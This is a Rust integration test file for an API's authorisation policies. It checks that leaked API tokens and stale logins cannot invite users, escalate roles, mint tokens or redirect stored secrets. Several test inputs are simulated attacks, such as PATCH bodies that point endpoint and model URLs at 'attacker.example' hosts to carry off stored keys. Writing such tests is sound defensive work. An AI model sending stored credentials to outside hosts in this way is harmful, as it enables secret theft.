//! One declared policy per state-changing operation (`domain::Operation`): every unsafe
//! operation of the API's document has one, and what it declares holds against the shortcuts
//! an attacker tries first: a leaked API token or a stale login that hands out power, or moves
//! a stored secret to the attacker's host.

use chrono::Duration;
use domain::Operation;
use ports::Clock;
use serde_json::json;

use crate::{TestApp, TestUser, spawn_app};

#[tokio::test]
async fn every_unsafe_operation_of_the_document_has_a_declared_policy() {
    let app = spawn_app().await;
    let spec = app.call("GET", "/openapi.json", None, None).await.json();
    let mut unsafe_operations = Vec::new();
    for (path, item) in spec["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            if !["post", "put", "patch", "delete"].contains(&method.as_str()) {
                continue;
            }
            let id = operation["operationId"].as_str().unwrap_or_default();
            assert!(
                Operation::from_name(id).is_some(),
                "{method} {path} ({id:?}) has no entry in domain::Operation"
            );
            unsafe_operations.push(id.to_owned());
        }
    }
    assert!(unsafe_operations.len() >= 20, "{unsafe_operations:?}");
}

/// An API token of `user`'s, created with a fresh login.
async fn api_token(app: &TestApp, user: &TestUser) -> String {
    let reply = app.create_api_token(&app.jwt(user), "a program").await;
    assert_eq!(reply.status, 201, "{reply:?}");
    reply.json()["token_value"].as_str().unwrap().to_owned()
}

/// An access token of `user`'s from a login an hour ago.
fn stale_jwt(app: &TestApp, user: &TestUser) -> String {
    let now = ports::SystemClock.now();
    app.jwt_at(user, now, now - Duration::hours(1))
}

#[tokio::test]
async fn a_leaked_api_token_or_a_stale_login_hands_out_no_power() {
    let app = spawn_app().await;
    let owner = app.owner("acme").await;
    let token = api_token(&app, &owner).await;
    let stale = stale_jwt(&app, &owner);
    let member = app.member(&owner, domain::Role::Member).await;
    let users_before = app.count("SELECT count(*) FROM users").await;
    let invitations_before = app.count("SELECT count(*) FROM invitations").await;
    for role in ["owner", "admin", "member"] {
        let invite = json!({"email": format!("attacker-{role}@evil.example"), "role": role});
        let reply = app
            .call("POST", "/api/v1/invitations", Some(&token), Some(&invite))
            .await;
        assert_eq!(
            (reply.status, reply.problem_code().as_str()),
            (403, "forbidden"),
            "an API token invites nobody ({role}): {reply:?}"
        );
        let reply = app
            .call("POST", "/api/v1/invitations", Some(&stale), Some(&invite))
            .await;
        assert_eq!(
            (reply.status, reply.problem_code().as_str()),
            (401, "insufficient_user_authentication"),
            "a stale login invites nobody ({role})"
        );
    }
    assert_eq!(app.count("SELECT count(*) FROM users").await, users_before);
    assert_eq!(
        app.count("SELECT count(*) FROM invitations").await,
        invitations_before
    );
    let member_path = format!("/api/v1/users/{}", member.id);
    let org = "/api/v1/organizations/current";
    let token_id = app
        .call("GET", "/api/v1/tokens", Some(&app.jwt(&owner)), None)
        .await
        .json()[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let refresh = format!("/api/v1/tokens/{token_id}/refresh");
    for (method, path, body) in [
        (
            "PATCH",
            member_path.as_str(),
            Some(json!({"role": "admin"})),
        ),
        ("DELETE", member_path.as_str(), None),
        ("DELETE", org, None),
        ("POST", "/api/v1/tokens", Some(json!({"name": "another"}))),
        ("POST", refresh.as_str(), None),
        ("POST", "/api/v1/organizations/current/leave", None),
    ] {
        let reply = app.call(method, path, Some(&token), body.as_ref()).await;
        assert_eq!(reply.status, 403, "API token: {method} {path}: {reply:?}");
        let reply = app.call(method, path, Some(&stale), body.as_ref()).await;
        assert_eq!(reply.status, 401, "stale: {method} {path}: {reply:?}");
    }
    // Each refusal is recorded with why.
    assert_eq!(
        app.count(
            "SELECT count(*) FROM audit_events WHERE action = 'access.denied' \
             AND reason = 'api_token_not_allowed'"
        )
        .await,
        9
    );
    // What a program may do, it still does.
    let reply = app
        .call(
            "POST",
            "/api/v1/projects",
            Some(&token),
            Some(&json!({"name": "p"})),
        )
        .await;
    assert_eq!(reply.status, 201, "{reply:?}");
}

#[tokio::test]
async fn a_stored_secret_cannot_be_sent_elsewhere_without_a_fresh_login() {
    let app = spawn_app().await;
    let owner = app.owner("acme").await;
    let jwt = app.jwt(&owner);
    let token = api_token(&app, &owner).await;
    let stale = stale_jwt(&app, &owner);
    let secret = "sk-live-endpoint-credential-0123456789";
    let key = "sk-live-model-key-0123456789abcdef";
    app.secret(secret);
    app.secret(key);
    let endpoint = app
        .call(
            "POST",
            "/api/v1/endpoints",
            Some(&jwt),
            Some(&json!({"name": "bot", "url": "https://bot.example/chat",
                         "auth_type": "bearer_token", "auth_token": secret})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let bare = app
        .call(
            "POST",
            "/api/v1/endpoints",
            Some(&jwt),
            Some(&json!({"name": "bare", "url": "https://bare.example/chat"})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let model = app
        .call(
            "POST",
            "/api/v1/models",
            Some(&jwt),
            Some(
                &json!({"name": "m", "model_name": "gpt-4o", "provider": "openai",
                         "endpoint": "https://api.openai.example/v1", "key": key}),
            ),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let endpoint_path = format!("/api/v1/endpoints/{endpoint}");
    let model_path = format!("/api/v1/models/{model}");
    let moves = [
        (
            endpoint_path.as_str(),
            json!({"url": "https://attacker.example/collect"}),
        ),
        (
            endpoint_path.as_str(),
            json!({"token_url": "https://attacker.example/token"}),
        ),
        (
            model_path.as_str(),
            json!({"endpoint": "https://attacker.example/v1"}),
        ),
    ];
    for (path, change) in &moves {
        for (who, credential, status) in [("API token", &token, 403), ("stale", &stale, 401)] {
            let reply = app
                .call("PATCH", path, Some(credential), Some(change))
                .await;
            assert_eq!(reply.status, status, "{who}: {path} {change}: {reply:?}");
        }
    }
    let urls = app
        .strings("SELECT url FROM endpoints UNION ALL SELECT endpoint FROM models ORDER BY 1")
        .await;
    assert!(
        urls.iter().all(|u| !u.contains("attacker")),
        "nothing moved: {urls:?}"
    );
    // Without a stored secret, or with the same address, or other fields: no fresh login needed.
    let reply = app
        .call(
            "PATCH",
            &format!("/api/v1/endpoints/{bare}"),
            Some(&token),
            Some(&json!({"url": "https://elsewhere.example/chat"})),
        )
        .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let reply = app
        .call(
            "PATCH",
            &endpoint_path,
            Some(&token),
            Some(&json!({"url": "https://bot.example/chat", "name": "renamed"})),
        )
        .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    // A fresh login may.
    for (path, change) in &moves {
        let reply = app.call("PATCH", path, Some(&jwt), Some(change)).await;
        assert_eq!(reply.status, 200, "{path} {change}: {reply:?}");
    }
}

/// A model without an `endpoint` sends its key to its provider's own API: the provider (and
/// with some providers the model name, which may carry a URL) says where. Changing it moves
/// the stored key as surely as changing `endpoint` does.
#[tokio::test]
async fn a_models_key_without_an_endpoint_cannot_be_sent_to_another_provider() {
    let app = spawn_app().await;
    let owner = app.owner("acme").await;
    let jwt = app.jwt(&owner);
    let token = api_token(&app, &owner).await;
    let stale = stale_jwt(&app, &owner);
    let key = "sk-live-model-key-without-endpoint-0123456789";
    app.secret(key);
    let created = app
        .call(
            "POST",
            "/api/v1/models",
            Some(&jwt),
            Some(&json!({"name": "m", "model_name": "gpt-4o", "provider": "openai", "key": key})),
        )
        .await;
    assert_eq!(created.status, 201, "{created:?}");
    let path = format!("/api/v1/models/{}", created.json()["id"].as_str().unwrap());
    let change = json!({"provider": "huggingface",
                        "model_name": "https://attacker.example/v1/models/collect"});
    for (who, credential, status) in [("API token", &token, 403), ("stale", &stale, 401)] {
        let reply = app
            .call("PATCH", &path, Some(credential), Some(&change))
            .await;
        assert_eq!(reply.status, status, "{who}: {reply:?}");
    }
    assert_eq!(
        app.strings("SELECT provider FROM models").await,
        ["openai"],
        "nothing moved"
    );
}
